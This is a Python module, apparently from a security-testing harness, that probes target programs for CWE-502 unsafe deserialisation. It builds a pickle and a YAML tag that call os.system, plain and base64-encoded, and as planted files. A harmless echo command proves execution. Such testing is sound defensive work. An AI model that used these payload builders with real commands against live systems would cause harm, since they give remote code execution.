"""CWE-502 in Python: does loading data from outside run code that the data chooses?

Exploited: an object in a pickle, or a tag in YAML, had a shell compute a product of two random numbers that the data
only asks for. Exercised: the random content of a benign document came back.
"""

import base64
import json

from seccoder.oracles.executed.discover import Surface
from seccoder.oracles.executed.drive import (
    APP,
    Exploit,
    Judgement,
    Run,
    Tokens,
    Wanted,
    attacks_of,
    benign_of,
    literals_like_files,
)

CWES = ("CWE-502",)


def want(surface: Surface, tokens: Tokens) -> Wanted:
    """Documents as values (plain and in base64) and as files of the names the source mentions."""
    plain = json.dumps({"name": tokens.inside})
    pickled = base64.b64encode(_pickle_text(tokens.inside)).decode()
    command = f"echo $(({tokens.a}*{tokens.b}))>/tmp/{tokens.mark}.{{N}}"
    bomb = _pickle_call(command)
    tag = f'!!python/object/apply:os.system ["{command}"]'
    attacks: list[dict[str, object]] = [{"value": tag}, {"value": f"x: {tag}"}, {"value": bomb.decode()}]
    # an encoded value cannot hold the attempt's number
    fixed = command.replace("{N}", "encoded")
    attacks.append({"value": base64.b64encode(_pickle_call(fixed)).decode(), "encoded": "encoded"})
    wanted = Wanted(benign=[plain, f"name: {tokens.inside}", pickled], watch=["/tmp"])  # noqa: S108 - the box's own
    documents = {"yaml": (f"name: {tokens.inside}\n".encode(), '!!python/object/apply:os.system ["{}"]\n')}
    for index, name in enumerate(literals_like_files(surface.literals)):
        path = name if name.startswith("/") else f"{APP}/{name}"
        mine = command.replace("{N}", f"file{index}")
        if name.endswith((".pkl", ".pickle", ".p", ".dat", ".bin", ".cache")):
            wanted.benign_files[path] = _pickle_text(tokens.inside)
            attacks.append({"value": "", "files": {path: _pickle_call(mine)}, "encoded": f"file{index}"})
        elif name.endswith((".yml", ".yaml")):
            benign, evil = documents["yaml"]
            wanted.benign_files[path] = benign
            attacks.append({"value": "", "files": {path: evil.format(mine).encode()}, "encoded": f"file{index}"})
    wanted.attacks = attacks
    return wanted


def _pickle_text(text: str) -> bytes:
    """A dictionary with one text, as a pickle of protocol 0."""
    return f"(dVname\nV{text}\ns.".encode()


def _pickle_call(command: str) -> bytes:
    """A pickle of protocol 0 that calls `os.system`: ASCII, so that it also passes through text."""
    return f"cos\nsystem\n(V{command}\ntR.".encode()


def judge(run: Run, tokens: Tokens) -> Judgement:
    """Look for products that only a shell can have computed."""
    judgement = Judgement()
    judgement.exercised = any(
        tokens.inside.encode() in attempt.said and (not attempt.type or attempt.status < 400) and not attempt.error
        for attempt in benign_of(run)
    )
    done = {path.rpartition(".")[2] for path, data in run.written.items() if data.strip() == tokens.product.encode()}
    for attempt in attacks_of(run, "deserialise"):
        if str(attempt.case.get("encoded", attempt.n)) in done:
            judgement.exercised = True
            judgement.exploits.append(
                Exploit(
                    "CWE-502", attempt.entry, attempt.payload, attempt.line, "loading the input ran a command it holds"
                )
            )
    return judgement
